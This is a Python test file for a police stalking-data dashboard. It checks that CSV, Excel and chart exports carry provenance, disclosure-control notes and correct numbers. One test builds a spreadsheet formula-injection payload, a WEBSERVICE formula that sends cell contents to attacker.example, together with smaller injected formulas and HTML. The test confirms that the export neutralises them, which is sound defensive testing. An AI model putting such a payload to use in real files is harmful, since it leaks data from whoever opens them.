"""Table downloads with their provenance (issue 15): CSV with leading comment lines and an
Excel workbook with a header block, both holding exactly the table shown."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import polars as pl
import pytest

from stalking_profile import exports

SHOWN = pl.DataFrame(
    {
        "District": ["BD", "CD"],
        "Offences": [1203, 37],
        "Rate (%)": [12.3, 5.0],
        "Note": ["=1+1", ""],
    }
)


def _provenance(synthetic: bool = False, suppressed_below: int = 0) -> exports.Provenance:
    return exports.Provenance(
        title="Outcomes by district",
        filter_text="Stalking, DA and non-DA, BD, CD, Oct 2020 to Sep 2021",
        force_name="Example Police",
        extract_date=date(2022, 1, 31),
        source="records system extract",
        synthetic=synthetic,
        suppressed_below=suppressed_below,
        exported_by="ana",
        exported_at=datetime(2026, 12, 1, 9, 30, tzinfo=UTC),
    )


def test_a_csv_carries_its_provenance_then_exactly_the_table(tmp_path: Path):
    content = exports.csv_bytes(SHOWN, _provenance()).decode("utf-8")
    lines = content.splitlines()
    assert lines[:7] == [
        "# Table: Outcomes by district",
        "# Filter: Stalking, DA and non-DA, BD, CD, Oct 2020 to Sep 2021",
        "# Data: Example Police, extract of 31 January 2022",
        "# Source: records system extract; Stalking Profile",
        "# Marking: OFFICIAL-SENSITIVE",
        "# Disclosure control: none (not for publication)",
        "# Exported: 01 December 2026 09:30 UTC by ana",
    ]
    path = tmp_path / "t.csv"
    path.write_text(content)
    back = pl.read_csv(path, comment_prefix="#")
    assert back["Offences"].to_list() == [1203, 37] and back["Rate (%)"].to_list() == [12.3, 5.0]
    assert back["Note"][0] == "'=1+1"  # a formula is neutralised


def test_no_provenance_value_or_column_name_becomes_a_formula_cell():
    """Helper 47's trial: a force name `Evil Police,=WEBSERVICE("http://...?"&A9)` (from a
    districts file) and a file named `x,=2+3.csv` each began a cell of their own in the
    `# Field: value` lines, which a spreadsheet would run (WEBSERVICE sends cells out); and a
    district code `=1+2` named a column of a table by district."""
    import csv
    import io

    evil = replace(
        _provenance(),
        force_name='Evil Police,=WEBSERVICE("http://attacker.example/?"&A9&B9)',
        source="import of x,=2+3.csv",
        filter_text="Stalking, BD, CD,=1+2, Oct 2020 to Sep 2021",
    )
    shown = SHOWN.rename({"District": "=1+2"})
    content = exports.csv_bytes(shown, evil).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c[1:2].isdigit()]
    assert formulas == []
    assert (
        "'=WEBSERVICE('http://attacker.example/?'&A9&B9)" in cells
        and "'=2+3.csv; Stalking Profile" in cells
    )
    assert "'=1+2" in cells  # the column name and the filter's piece, neutralised
    lines = content.splitlines()
    assert lines[1] == "# Filter: Stalking, BD, CD,'=1+2, Oct 2020 to Sep 2021"


def test_a_download_from_an_extract_with_quiet_last_months_says_so():
    """The dashboard's coverage warning (queries.DatasetInfo.coverage_warning) travels with a
    download: a table of such an extract is read with it."""
    warning = (
        "The extract is dated 31 January 2022, but its latest offence was recorded in June 2021."
    )
    provenance = replace(_provenance(), coverage=warning)
    lines = exports.csv_bytes(SHOWN, provenance).decode("utf-8").splitlines()
    assert f"# Coverage: {warning}" in lines
    assert not any(
        line.startswith("# Coverage")
        for line in exports.csv_bytes(SHOWN, _provenance()).decode().splitlines()
    )


def test_an_excel_download_has_the_header_block_and_the_table(tmp_path: Path):
    provenance = _provenance(synthetic=True)
    path = tmp_path / "t.xlsx"
    path.write_bytes(exports.xlsx_bytes(SHOWN, provenance))
    block = pl.read_excel(path, has_header=False, read_options={"n_rows": 8})
    assert block[0, 0] == "Table" and block[0, 1] == "Outcomes by district"
    assert ("Marking", exports.DEMO_MARKING) in [row[:2] for row in block.rows()]
    assert block[7, 0] == "Notice"
    table = pl.read_excel(path, read_options={"header_row": len(provenance.fields()) + 1})
    assert table.columns == SHOWN.columns
    assert table["Offences"].to_list() == [1203, 37]
    # text is written as text, which Excel never runs: as shown, with no CSV quote before it
    assert table["Note"].to_list() == SHOWN["Note"].to_list()
    with zipfile.ZipFile(path) as workbook:
        cells = workbook.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in cells  # no formula anywhere


def _cells(path: Path) -> dict[int, list]:
    """A workbook's first sheet as Excel stores it, by row number: a number cell as a float
    (an int where whole), a text cell as its text."""
    import xml.etree.ElementTree as ET

    space = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as workbook:
        strings = [
            "".join(t.text or "" for t in item.iter(f"{{{space['m']}}}t"))
            for item in ET.fromstring(workbook.read("xl/sharedStrings.xml")).findall("m:si", space)
        ]
        sheet = ET.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
    rows: dict[int, list] = {}
    for row in sheet.iter(f"{{{space['m']}}}row"):
        values: list = []
        for cell in row.findall("m:c", space):
            raw = cell.find("m:v", space).text
            if cell.get("t") == "s":
                values.append(strings[int(raw)])
            else:
                number = float(raw)
                values.append(int(number) if number.is_integer() else number)
        rows[int(row.get("r"))] = values
    return rows


def test_a_number_written_as_text_is_downloaded_as_a_number(tmp_path: Path):
    """Helper 64: publication mode writes a column of counts with a withheld one as text
    ("1,431" beside "suppressed"), and the headline table's values are text ("6,620"): the
    Excel held text an analyst could not sum, and the CSV "1,431". The workbook has numbers
    and the CSV plain digits; a code ("01"), a percentage and "suppressed" stay text."""
    shown = pl.DataFrame(
        {
            "District": ["BD", "CD", "KD"],
            "Offences": ["1,431", "suppressed", "15"],
            "Value": ["6,620", "2.4%", "-3.2"],
            "Code": ["01", "1A", "0"],
        }
    )
    provenance = _provenance(suppressed_below=5)
    path = tmp_path / "t.xlsx"
    path.write_bytes(exports.xlsx_bytes(shown, provenance))
    first = len(provenance.fields()) + 3  # the header block, a blank row, the header row
    rows = [row for number, row in _cells(path).items() if number >= first]
    assert rows == [
        ["BD", 1431, 6620, "01"],
        ["CD", "suppressed", "2.4%", "1A"],
        ["KD", 15, -3.2, 0],
    ]
    text = exports.csv_bytes(shown, provenance).decode("utf-8").splitlines()
    assert text[-3:] == ["BD,1431,6620,01", "CD,suppressed,2.4%,1A", "KD,15,-3.2,0"]


def test_publication_mode_is_stated_in_every_download():
    text = exports.csv_bytes(SHOWN, _provenance(suppressed_below=5)).decode("utf-8")
    assert "# Marking: OFFICIAL (publication mode: small numbers suppressed)" in text
    assert "non-zero counts under 5 withheld (blank or 'suppressed')" in text
    # cells hidden by the secondary step are written alike: the provenance says why
    assert "secondary suppression: further counts withheld alike" in text
    assert "<5" not in text


def test_an_image_without_a_browser_is_a_clear_error_not_a_wait(monkeypatch):
    """kaleido's own server thread died when Chromium could not start, and every later image
    then waited for ever (a page's download, a pack, a test worker). Now each is refused."""
    import time

    import plotly.graph_objects as go

    from stalking_profile import images

    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    renderer = images._Renderer()
    figure = go.Figure(go.Bar(x=["a"], y=[1]))
    started = time.perf_counter()
    for _ in range(2):
        with pytest.raises(
            images.ImageRenderingError, match="Chromium was not found on the server"
        ):
            renderer.render(figure.to_dict(), {"format": "png", "width": 200, "height": 100})
    assert time.perf_counter() - started < images.RENDER_TIMEOUT_S


def test_an_image_after_the_browser_died_opens_a_new_browser():
    import os
    import signal

    import plotly.graph_objects as go

    from stalking_profile import images

    renderer = images._Renderer()
    options = {"format": "png", "width": 200, "height": 100}
    figure = go.Figure(go.Bar(x=["a"], y=[1])).to_dict()
    try:
        assert renderer.render(figure, options)[:4] == b"\x89PNG"
        first = renderer._browser
        assert first is not None
        os.kill(first.subprocess.pid, signal.SIGKILL)
        first.subprocess.wait(timeout=10)
        assert renderer.render(figure, options)[:4] == b"\x89PNG"
        assert renderer._browser is not None and renderer._browser is not first
    finally:
        renderer.close()


def test_a_published_charts_footer_gives_its_disclosure_control_a_line_of_its_own():
    """Helper 83: on a bar chart, whose long labels move the plot (and the footer with it)
    right, the marking's line ran off the image at "... a gap is not a"."""
    import plotly.graph_objects as go

    from stalking_profile import images

    figure = images.for_slide(go.Figure(), _provenance(suppressed_below=5))
    footer = figure.layout.annotations[-1].text.split("<br>")
    assert footer[2] == "OFFICIAL (publication mode: small numbers suppressed)"
    assert footer[3] == (
        "Counts under 5 suppressed; others withheld so that none can be worked out: a gap is "
        "not a small count"
    )
    assert (
        len(images.for_slide(go.Figure(), _provenance()).layout.annotations[-1].text.split("<br>"))
        == 3
    )


def test_a_chart_renders_offline_at_slide_size_with_its_provenance(demo_gateway):
    """PNG and SVG on the server (kaleido, Debian's Chromium, no MathJax, the local world
    topology): a ward map included, which would otherwise fetch a topology from a CDN."""
    import struct

    from stalking_profile import images, map_panels
    from stalking_profile.filters import ProfileFilter
    from stalking_profile.geography import ward_geometry

    flt = ProfileFilter(date(2020, 10, 1), date(2021, 9, 1), ("CD",), "non_domestic", ("stalking",))
    geometry = ward_geometry(demo_gateway, ("CD",))
    panel = map_panels.hotspot_panel(demo_gateway, flt, geometry, "offences", True)
    provenance = _provenance(synthetic=True)
    slide = images.for_slide(panel.map_figure, provenance)
    png = images.render(slide, "png")
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    assert struct.unpack(">II", png[16:24]) == images.SLIDE_SIZE
    svg = images.render(slide, "svg").decode("utf-8")
    assert svg.startswith("<svg") and 'width="1600"' in svg
    assert "OFFICIAL (synthetic demonstration data)" in svg and "SYNTHETIC DATA" in svg
    assert "extract of 31 January 2022" in svg
    assert svg.count('class="choroplethlocation"') == geometry.wards.height == 17  # every ward


def test_an_image_draws_a_users_text_as_written_not_as_a_link():
    """A district code imported as an `<a href>` was a link in a downloaded SVG, and a file
    name with `<b>` in the footer's source bold: both are drawn as written."""
    import plotly.graph_objects as go

    from stalking_profile import images

    link = '<a href="http://host/">BD</a>'
    figure = go.Figure(go.Bar(x=[link, "CD"], y=[3, 4]))
    provenance = replace(_provenance(), source="<b>extract</b>.csv")
    svg = images.render(images.for_slide(figure, provenance), "svg").decode("utf-8")
    assert "<a " not in svg and "font-weight:bold" not in svg.replace(" ", "")  # no link, no bold
    assert '&#60;a href="http://host/"&#62;BD&#60;/a&#62;' in svg  # the tick, as written
    assert "&#60;b&#62;extract&#60;/b&#62;.csv" in svg  # the footer's source


def test_a_publication_images_footer_says_its_counts_are_rounded():
    """The ONS style's images said "counts under 10 suppressed" and nothing of the others
    being rounded to 5, which the pack's title slide says (helper 51)."""
    import plotly.graph_objects as go

    from stalking_profile import images

    provenance = replace(_provenance(suppressed_below=10), rounded_to=5)
    footer = images.for_slide(go.Figure(), provenance).layout.annotations[0].text
    assert "Counts under 10 suppressed, the others rounded to the nearest 5" in footer


def test_a_download_is_stamped_when_it_is_made_not_when_its_page_was_drawn():
    """The provenance was made when the page was drawn, so a table downloaded an hour later
    said it was exported an hour before; the time is now taken when the file is made."""
    drawn = _provenance()  # a page drawn on 1 December 2026
    before = datetime.now(UTC)
    made = exports.exported_now(drawn)
    assert before <= made.exported_at <= datetime.now(UTC)
    assert made.filter_text == drawn.filter_text and drawn.exported_at.day == 1
    assert f"# Exported: {made.exported_at:%d %B %Y %H:%M} UTC by ana" in (
        exports.csv_bytes(SHOWN, made).decode("utf-8")
    )


def test_text_people_wrote_keeps_its_numbers_as_written() -> None:
    """A table of figures gives "1,431" as 1431 (a number a spreadsheet sums); text a person
    or a file wrote (a tracker's progress, a refused value, a note) keeps "1,500" as written:
    the tracker's download gave 1500, which its import read back as a change (helper 74)."""
    frame = pl.DataFrame({"progress": ["1,500", "- done"]})
    figures = exports.csv_bytes(frame, _provenance()).decode()
    written = exports.csv_bytes(frame, _provenance(), as_written=True).decode()
    assert figures.endswith("progress\n1500\n'- done\n")
    assert written.endswith('progress\n"1,500"\n\'- done\n')
    sheet = exports.xlsx_bytes(frame, _provenance(), as_written=True)
    assert b"1,500" in zipfile.ZipFile(io.BytesIO(sheet)).read("xl/sharedStrings.xml")
